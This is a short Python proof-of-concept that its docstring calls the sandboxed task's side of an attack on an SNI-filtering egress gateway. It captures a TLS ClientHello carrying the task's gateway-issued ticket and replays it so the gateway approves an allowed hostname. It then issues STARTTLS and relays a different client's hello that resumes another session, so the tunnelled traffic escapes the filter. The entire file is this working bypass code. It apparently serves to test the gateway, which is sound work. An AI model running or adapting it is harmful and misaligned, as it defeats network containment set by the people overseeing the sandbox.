"""The task's side of the attack (inside the sandbox).
capture PORT FILE: take the first TLS record a local client sends (a ClientHello
  offering the task's own, gateway-issued ticket) and keep it in FILE.
relay PORT HOST RPORT FILE: for one local client, connect to HOST:RPORT, send FILE's
  hello first (the gateway decides it: SNI allowed.test), then STARTTLS; once the server
  says go ahead, relay the local client (whose hello resumes another session) as is."""

import select
import socket
import sys
from pathlib import Path

mode, port = sys.argv[1], int(sys.argv[2])
ls = socket.socket()
ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("127.0.0.1", port))
ls.listen(1)
print("listening", flush=True)
c, _ = ls.accept()
if mode == "capture":
    data = b""
    while len(data) < 5 or len(data) < 5 + int.from_bytes(data[3:5], "big"):
        piece = c.recv(65536)
        if not piece:
            break
        data += piece
    Path(sys.argv[3]).write_bytes(data[: 5 + int.from_bytes(data[3:5], "big")])
    print("captured", len(data), flush=True)
    sys.exit(0)
host, rport, hello = sys.argv[3], int(sys.argv[4]), Path(sys.argv[5]).read_bytes()
u = socket.create_connection((host, rport), timeout=10)
u.sendall(hello)
u.sendall(b"\r\nSTARTTLS\r\n")
got = b""
while b"220 go ahead\r\n" not in got:
    piece = u.recv(4096)
    if not piece:
        print("upstream closed before go ahead:", got, flush=True)
        sys.exit(1)
    got += piece
print("preamble", got, flush=True)
u.settimeout(None)
socks = [c, u]
while True:
    r, _, _ = select.select(socks, [], [], 15)
    if not r:
        break
    for s in r:
        data = s.recv(65536)
        if not data:
            sys.exit(0)
        (u if s is c else c).sendall(data)
